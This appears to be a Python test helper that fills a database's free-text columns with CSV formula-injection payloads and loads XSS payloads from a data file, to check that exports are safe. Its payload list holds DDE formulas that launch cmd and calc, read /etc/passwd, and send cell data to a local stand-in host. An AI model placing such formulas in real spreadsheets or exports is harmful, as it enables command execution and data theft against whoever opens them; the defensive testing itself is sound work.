"""Texts that attack whoever shows or exports them, and the example with one of them in every free text it holds.

The formulas are our own list. Their forms come from public write-ups of CSV injection (OWASP «CSV Injection», the
examples of CWE-1236) and of the functions of spreadsheets that fetch or run: DDE, HYPERLINK, WEBSERVICE, IMPORT*.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from itertools import cycle, product
from pathlib import Path
from typing import Any

from sqlalchemy import Table, select, update

from consult.base.db import Base, db

STARTS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "＝", "＋", "－", "＠", " =", "\u00a0+", "\ufeff=", "\u200b-", '"=',
    ";=", "uno;=", "uno\n=",
)  # fmt: skip
BODIES = (
    "1+1",
    "1+cmd|' /C calc'!A0",
    "cmd|' /C notepad'!'A1'",
    "SUM(1,1)*cmd|' /C calc'!A0",
    'HYPERLINK("http://127.0.0.1:9/?x="&A1,"Ver")',
    'WEBSERVICE("http://127.0.0.1:9/?x="&A1)',
    'IMPORTXML(CONCATENATE("http://127.0.0.1:9/?x=",A1),"//a")',
    'IMAGE("http://127.0.0.1:9/x.png")',
    'DDE("soffice";"/etc/passwd";"A1")',
    "'file:///etc/passwd'#$passwd.A1",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    'IF(TRUE,"si","no")',
    "INDIRECT(ADDRESS(1,1))",
    "2;=1+3",
)
FORMULAS = tuple(start + body for start, body in product(STARTS, BODIES))
"""Three hundred."""

FREE = frozenset({
    "name", "text", "lead", "owner", "origin", "rationale", "reason", "because", "adopted_by", "evidence", "receiver",
    "coverage", "provider", "co_providers", "place", "facilitator", "witnesses", "agreements", "kept_away_by",
    "moderation_reason", "body", "verification", "metric", "answer", "title", "aliases", "unit", "mode",
})  # fmt: skip
"""Columns that hold what people or policy files write, in their own words."""


def poison(payloads: tuple[str, ...]) -> set[str]:
    """Put a payload in place of each free text of the database, one after another; return those that were placed."""
    turns = cycle(payloads)
    placed: set[str] = set()
    with db.engine.begin() as connection:
        for table in Base.metadata.sorted_tables:
            names = [column.name for column in table.columns if column.name in FREE]
            for row in connection.execute(select(table)).mappings().all() if names else ():
                fresh = {name: _poisoned(row[name], turns, placed) for name in names}
                if fresh != {name: row[name] for name in names}:
                    connection.execute(update(table).where(*_is(table, dict(row))).values(fresh))
    return placed


def _is(table: Table, row: dict[str, Any]) -> Iterator[Any]:
    return (column == row[column.name] for column in table.primary_key)


def _poisoned(value: Any, turns: Iterator[str], placed: set[str]) -> Any:
    if isinstance(value, dict):
        return {key: _poisoned(inner, turns, placed) for key, inner in value.items()}
    if isinstance(value, list):
        return [_poisoned(inner, turns, placed) for inner in value]
    if not isinstance(value, str) or not value:
        return value
    payload = next(turns)
    placed.add(payload)
    return payload


def scripts() -> tuple[str, ...]:
    """Return the two hundred texts that would run in a page that printed them as they are (tests/data/hostile)."""
    kept = json.loads((Path(__file__).parent / "data" / "hostile" / "xss.json").read_text(encoding="utf-8"))
    return tuple(kept["payloads"])
